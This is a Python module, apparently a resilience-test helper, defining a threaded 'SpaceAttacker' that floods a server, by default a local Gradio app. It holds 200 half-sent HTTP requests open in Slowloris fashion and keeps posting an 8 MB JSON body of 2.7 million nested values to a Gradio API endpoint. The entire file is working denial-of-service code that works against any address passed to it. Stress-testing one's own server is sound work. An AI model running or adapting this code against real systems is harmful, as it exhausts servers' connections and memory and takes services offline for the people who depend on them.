"""Attacker of the Space: half-sent requests and wide JSON, as fast as the server allows."""

import contextlib
import socket
import threading
from urllib.parse import urlsplit

import httpx

HALF_SENT = 200  # open requests
HALF = b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "
WIDE = b'{"data":[[' + b"{}," * 2_700_000 + b"{}]]}"  # 8 MB, parsed to 2.7 M values
PAUSE = 0.5  # seconds between two rounds
PATIENCE = 60.0  # seconds for an answer


class SpaceAttacker:
    """Attacks from a thread, as a context manager.

    Args:
        address: The server, such as `http://127.0.0.1:7860/`.
    """

    def __init__(self, address: str) -> None:
        self._address = address
        place = urlsplit(address)
        self._place = (place.hostname or "127.0.0.1", place.port or 80)
        self._held: list[socket.socket] = []
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._attack, daemon=True)

    def __enter__(self) -> "SpaceAttacker":
        self._thread.start()
        return self

    def __exit__(self, *error: object) -> None:
        self._ended.set()
        self._thread.join()
        for connection in self._held:
            connection.close()

    def _attack(self) -> None:
        while not self._ended.wait(PAUSE):
            with contextlib.suppress(OSError, httpx.HTTPError):
                self._send_halves()
                httpx.post(f"{self._address}gradio_api/call/limits", content=WIDE, timeout=PATIENCE)

    def _send_halves(self) -> None:
        """Refill the open half-sent requests."""
        self._held = [connection for connection in self._held if not _is_closed(connection)]
        while len(self._held) < HALF_SENT:
            opened = socket.create_connection(self._place, timeout=PATIENCE)
            opened.sendall(HALF)
            opened.settimeout(0.0)  # only polled for being closed
            self._held.append(opened)


def _is_closed(connection: socket.socket) -> bool:
    """Whether the server has hung up."""
    try:
        connection.recv(1024)
    except BlockingIOError:
        return False
    except OSError:
        pass
    connection.close()
    return True
